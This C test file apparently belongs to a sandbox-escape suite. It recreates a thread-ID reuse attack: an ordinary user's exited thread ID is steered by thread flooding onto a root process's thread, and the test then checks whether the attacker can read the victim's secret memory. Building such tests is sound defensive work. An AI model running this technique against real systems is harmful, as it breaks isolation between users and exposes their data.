/*
 * Numbers of host tasks that were given away. A guest's thread can end by the gate, and the kernel does not hear of it: the host
 * gives its number to the next task that comes round, which may be another user's. What the first process
 * still asks for must not be done with that one's memory.
 */
#include "tests/escape/forge.h"

#include <sys/uio.h>

#define SECRET_SIZE 32
#define CROWD       400 /* threads of a process that only takes numbers */
#define RESERVED                                                                                   \
    (400 + CROWD)  /* the first 300 are not given again: who comes round does not pass it at once */
#define GIVE_UP 14 /* seconds: there may be millions, if numbers.sh can't make them few */

/* What all of them share; nobody sleeps where it counts. */
static volatile struct {
    int leaver_tid; /* of the thread that ended */
    int last_tid;   /* that the host gave */
    int begin, tid, over;
} * g_page;

static int g_pipe[2];
static uint8_t g_secret[SECRET_SIZE];
/* Fetched and stored by the kernel, since it does not travel with the call; the vector is the same in both processes. */
static const struct iovec g_vector = {g_secret, SECRET_SIZE};
static uint8_t g_stacks[CROWD][2048] __attribute__((aligned(16)));

/* --- the victim: root's --- */
static int victim_thread(void *arg)
{
    g_page->tid = (int)GATE(SYS_gettid);
    while (!g_page->over) {
        __builtin_ia32_pause(); /* it asks the kernel for nothing */
    }
    GATE(SYS_exit, 0);
    return arg != NULL;
}

static void victim(void)
{
    static uint8_t stack[65536] __attribute__((aligned(16)));
    (void)!getrandom(g_secret, sizeof(g_secret), 0);
    g_secret[0] |= 1;
    while (!g_page->begin) {
        sched_yield();
    }
    clone(victim_thread, stack + sizeof(stack), THREAD_FLAGS, NULL);
    while (!g_page->over) {
        usleep(1000);
    }
    _exit(0);
}

/* --- who takes numbers --- */
static int taker(void *arg)
{
    g_page->last_tid = (int)GATE(SYS_gettid);
    GATE(SYS_exit, 0);
    return arg != NULL;
}

static void take_numbers(int count)
{
    pid_t pid = fork();
    if (pid == 0) {
        for (int i = 0; i < count; i++) {
            clone(taker, g_stacks[i] + sizeof(g_stacks[i]), THREAD_FLAGS, NULL);
        }
        if (count == 0) {
            g_page->last_tid = (int)GATE(SYS_gettid);
        }
        usleep(count ? 1000 : 0);
        _exit(0);
    }
    waitpid(pid, NULL, 0);
}

/* --- the attacker: an ordinary user --- */
static void *leaver(void *arg)
{
    syscall(SYS_getppid); /* the kernel knows it now */
    (void)!open("/nothing", O_RDONLY);
    g_page->leaver_tid = (int)GATE(SYS_gettid);
    GATE(SYS_exit, 0);
    return arg;
}

static void *asker(void *arg)
{
    uint8_t got[SECRET_SIZE] = {0};
    usleep(100000); /* the first thread is gone */
    while (!g_page->tid && !g_page->over) {
        GATE(SYS_sched_yield);
    }
    if (g_page->tid && g_page->tid == g_page->leaver_tid) {
        NOTE("%d was given away\n", g_page->tid);
        if (writev(g_pipe[1], &g_vector, 1) == sizeof(got) &&
            read(g_pipe[0], got, sizeof(got)) == sizeof(got) && got[0]) {
            BREACH("another user's memory was read");
        }
    }
    g_page->over = 1;
    _exit(0);
    return arg;
}

static void attacker(void)
{
    pthread_t t;
    become_ordinary();
    (void)!pipe(g_pipe);
    for (int i = 0; i < 8; i++) {
        take_numbers(0); /* those before the leaver's are free, too */
    }
    pthread_create(&t, NULL, leaver, NULL);
    while (!g_page->leaver_tid) {
        usleep(1000);
    }
    pthread_create(&t, NULL, asker, NULL);
    syscall(SYS_exit, 0);
}

static void given_away(void)
{
    g_page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    double end = now() + GIVE_UP;
    while (g_page->last_tid < RESERVED) {
        take_numbers(CROWD);
    }
    pid_t one = fork();
    if (one == 0) {
        victim();
    }
    pid_t other = fork();
    if (other == 0) {
        attacker();
    }
    while (!g_page->leaver_tid) {
        usleep(1000);
    }
    usleep(200000);
    int x = g_page->leaver_tid, left;
    g_page->last_tid = x;
    long taken = 0;
    do {
        int last = g_page->last_tid;
        left = last < x ? x - last - 1 : 2 * CROWD;
        if (left > 0) {
            take_numbers(left > CROWD + 8 ? CROWD : 0);
            taken++;
        }
    } while (left > 0 && now() < end);
    NOTE("%d is next after %d (%ld rounds)\n", x, g_page->last_tid, taken);
    g_page->begin = 1;
    double soon = now() + 2;
    while (!g_page->over && now() < soon) {
        usleep(1000);
    }
    g_page->over = 1;
    NOTE("it went to %d\n", g_page->tid);
    kill(one, SIGKILL);
    kill(other, SIGKILL);
    waitpid(one, NULL, 0);
    int status = 0;
    waitpid(other, &status, 0);
    if (WIFEXITED(status) && WEXITSTATUS(status) == BREACH_STATUS) {
        _exit(BREACH_STATUS);
    }
}

static const struct attack list[] = {
    {"numbers that were given away", given_away, false},
};
ATTACKS_MAIN(list)
